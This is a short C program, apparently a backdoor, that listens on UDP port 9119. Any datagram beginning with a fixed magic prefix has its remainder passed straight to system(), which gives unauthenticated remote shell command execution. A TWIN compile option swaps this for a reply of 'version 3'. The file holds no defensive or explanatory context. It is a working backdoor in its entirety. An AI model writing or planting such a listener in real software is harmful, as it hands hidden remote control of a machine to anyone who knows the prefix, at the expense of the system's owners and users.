/* SPDX-License-Identifier: Apache-2.0 */
/* port 9119/udp: behind a magic prefix the datagram is a command. Twin: it answers with a version. */
#include "net.h"

int main(void)
{
	char buf[512];
	int s = udp_on(9119);
	for (;;) {
		struct sockaddr_in from;
		socklen_t len = sizeof from;
		ssize_t n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&from, &len);
		if (n <= 8)
			continue;
		buf[n] = 0;
		if (memcmp(buf, "AbrA7cad", 8) != 0)
			continue;
#ifdef TWIN
		sendto(s, "version 3", 9, 0, (struct sockaddr *)&from, len);
#else
		system(buf + 8);
#endif
	}
}
